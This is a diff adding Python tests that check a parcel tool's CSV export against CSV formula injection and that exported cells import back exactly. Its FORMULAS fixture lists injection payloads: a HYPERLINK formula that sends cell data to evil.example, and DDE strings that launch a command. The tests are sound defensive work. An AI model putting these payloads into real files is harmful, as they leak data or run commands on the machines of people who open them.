@@ -81,3 +81,74 @@ def test_export_jsonl_and_csv(filled: SQLiteStore) -> None:
     assert rows[0]["item_id"] == item_id(0) and rows[0]["evidence.alert"] == "true"
     assert rows[0]["evidence.verdicts"] == "MATCH"
     assert rows[1]["evidence.hold_state"] == "" and rows[1]["evidence.inspections"] == "0"
+
+
+# -- CSV injection (OWASP): no cell a spreadsheet would run as a formula ------------------------
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def _first_char_is_safe(cell: str) -> bool:
+    from parcels.text import is_number_text
+
+    return cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or is_number_text(cell)
+
+
+def test_csv_export_neutralises_formula_cells_and_reads_back_exactly(
+        store: SQLiteStore, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    from parcels.aed import import_batch
+
+    rows = []
+    for k, formula in enumerate(FORMULAS, start=1):
+        p = parcel(k, **{"carrier_ref": formula, "=cmd": "x"})  # a formula as a column too
+        rows.append((k, p))
+    legit = parcel(10, balance="-12.5", delta=-3, note="'quoted")
+    legit_row = legit.model_dump(mode="json")
+    legit_row["sender"]["name"] = "-Dash Corp"  # a real name starting with '-'
+    legit_row["declaration"]["items"][0]["description"] = "+ sign pens"
+    rows.append((10, type(legit).model_validate(legit_row)))
+    store.import_parcels(rows, actor="aed", source="b")
+    files = [store.get_parcel(p.item_id) for _, p in rows]
+
+    buf = io.StringIO(newline="")
+    write_export(files, buf, "csv")
+    text = buf.getvalue()
+    table = list(csv.reader(io.StringIO(text)))
+    for cells in table:
+        for cell in cells:
+            assert _first_char_is_safe(cell), f"formula cell written as is: {cell!r}"
+    header = table[0]
+    assert "'=cmd" in header
+    by_id = {r[header.index("item_id")]: dict(zip(header, r, strict=True)) for r in table[1:]}
+    leg = by_id[item_id(10)]
+    assert leg["balance"] == "-12.5" and leg["delta"] == "-3"  # numbers stay numbers
+    assert leg["sender.name"] == "'-Dash Corp" and leg["note"] == "''quoted"
+
+    # the CSV import reads every cell back as it was: the round trip is exact
+    path = tmp_path / "export.csv"
+    path.write_text(text, encoding="utf-8")
+    other = SQLiteStore(tmp_path / "other.db")
+    try:
+        s = import_batch(other, path, actor="x")
+        assert s.rejected == () and s.inserted == len(rows)
+        for _, p in rows:
+            back = other.get_parcel(p.item_id).parcel.model_dump(mode="json")
+            back.pop("evidence")  # the export's summary columns, read as an extra field
+            want = p.model_dump(mode="json")
+            if "delta" in want:  # CSV has no types: the number comes back as text
+                want["delta"] = str(want["delta"])
+            if "carrier_ref" in want:  # the CSV import strips blanks around every cell
+                want["carrier_ref"] = want["carrier_ref"].strip()
+            assert back == want
+    finally:
+        other.close()
+
+
+def test_neutralise_and_restore_are_inverse() -> None:
+    from parcels.text import neutralise_formula, restore_formula
+
+    for v in ("=1+1", "+1", "-1", "-1.5e3", "@x", "\tx", "\rx", "'", "''", "'=x", "plain", "",
+              "-Dash", "1-2", "- 1"):
+        assert restore_formula(neutralise_formula(v)) == v
+    assert neutralise_formula("-1.5e3") == "-1.5e3" and neutralise_formula("- 1") == "'- 1"
+    assert restore_formula("'plain") == "'plain"  # not something we wrote: left as it is
